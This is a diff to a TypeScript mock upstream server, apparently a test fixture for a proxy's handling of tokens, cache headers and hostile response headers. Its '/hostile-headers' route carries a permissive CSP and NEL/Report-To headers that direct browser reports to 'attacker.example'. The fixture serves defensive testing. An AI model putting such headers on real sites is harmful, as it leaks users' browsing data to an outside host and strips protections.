@@ -25,7 +25,7 @@ export interface EchoRecord {
  * `/echo-token-error` (400 quoting the Authorization it got; `/echo-token-error/big` the same past
  * 64 KiB, `/echo-token-error/gzip` gzip-encoded), `/echo-token-header` (200 with the
  * Authorization in a header), `/hostile-headers` (CORS, HSTS, Clear-Site-Data, Refresh, CSP,
- * cookies). Like many frameworks it honours X-HTTP-Method-Override and its kin, and routes by
+ * cookies), `/cacheable` (Cache-Control public with s-maxage, CDN-Cache-Control, Surrogate-Control). Like many frameworks it honours X-HTTP-Method-Override and its kin, and routes by
  * X-Original-URL. `rejectNext` makes the next
  * request get 401 `invalid_token` whatever its token. {@link nextBodyChunk} resolves when a
  * request body's first chunk arrives: proof that bodies are not buffered whole on the way.
@@ -181,6 +181,18 @@ export class EchoUpstream {
         body: '{"ok":true}',
       };
     }
+    if (path.endsWith('/cacheable')) {
+      return {
+        status: 200,
+        headers: {
+          ...json,
+          'cache-control': 'public, max-age=60, s-maxage=300, proxy-revalidate',
+          'cdn-cache-control': 'max-age=600',
+          'surrogate-control': 'max-age=600',
+        },
+        body: JSON.stringify({ for: token === undefined ? 'anyone' : claims?.sub }),
+      };
+    }
     if (path.endsWith('/hostile-headers')) {
       return {
         status: 200,
@@ -196,6 +208,9 @@ export class EchoUpstream {
           'content-security-policy': "default-src * 'unsafe-inline' 'unsafe-eval'",
           'x-frame-options': 'ALLOWALL',
           'service-worker-allowed': '/',
+          nel: '{"report_to":"default","max_age":31536000,"include_subdomains":true,"success_fraction":1}',
+          'report-to': '{"group":"default","max_age":31536000,"endpoints":[{"url":"https://attacker.example/r"}]}',
+          'reporting-endpoints': 'default="https://attacker.example/r"',
           'x-upstream-public': 'visible',
         },
         body: '{"ok":true}',
